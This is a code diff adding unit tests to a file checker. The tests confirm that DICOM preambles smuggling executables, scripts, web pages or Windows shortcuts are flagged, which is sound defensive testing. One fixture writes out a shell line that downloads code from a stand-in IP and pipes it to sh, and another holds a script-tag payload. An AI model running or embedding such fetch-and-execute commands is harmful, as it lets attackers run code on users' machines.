@@ -106,6 +106,32 @@ describe('checkRecord: honest records pass, typed by their content', () => {
   });
 });
 
+describe('checkRecord: DICOM\u2019s preamble', () => {
+  const dicom = (preamble: Buffer) =>
+    Buffer.concat([preamble, Buffer.alloc(128 - preamble.length), Buffer.from('DICM'), Buffer.alloc(64)]);
+
+  it.each([
+    ['zeros', Buffer.alloc(0), 'accepted as dicom'],
+    ['vendor text', Buffer.from('ACME Imaging 4.2'), 'accepted as dicom'],
+    [
+      'a TIFF header (a DICOM/TIFF dual-format file: offered as the TIFF it also is)',
+      tiff().subarray(0, 8),
+      'accepted as tiff',
+    ],
+    ['a Windows program (a PE/DICOM polyglot)', FILES.windowsExe().subarray(0, 100), 'executable'],
+    ['a Linux program', FILES.elf().subarray(0, 64), 'executable'],
+    ['a script', Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nexit\n'), 'dicom-preamble'],
+    ['a web page', Buffer.from('<html><script>alert(1)</script>'), 'dicom-preamble'],
+    [
+      'a Windows shortcut (.lnk), which file-type looks for only after DICOM',
+      Buffer.from([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]),
+      'dicom-preamble',
+    ],
+  ])('%s', async (_, preamble, expected) => {
+    expect(refusal(await check(dicom(preamble)))).toBe(expected);
+  });
+});
+
 describe('checkRecord: sizes', () => {
   it('refuses an empty file without reading it', async () => {
     // Arrange
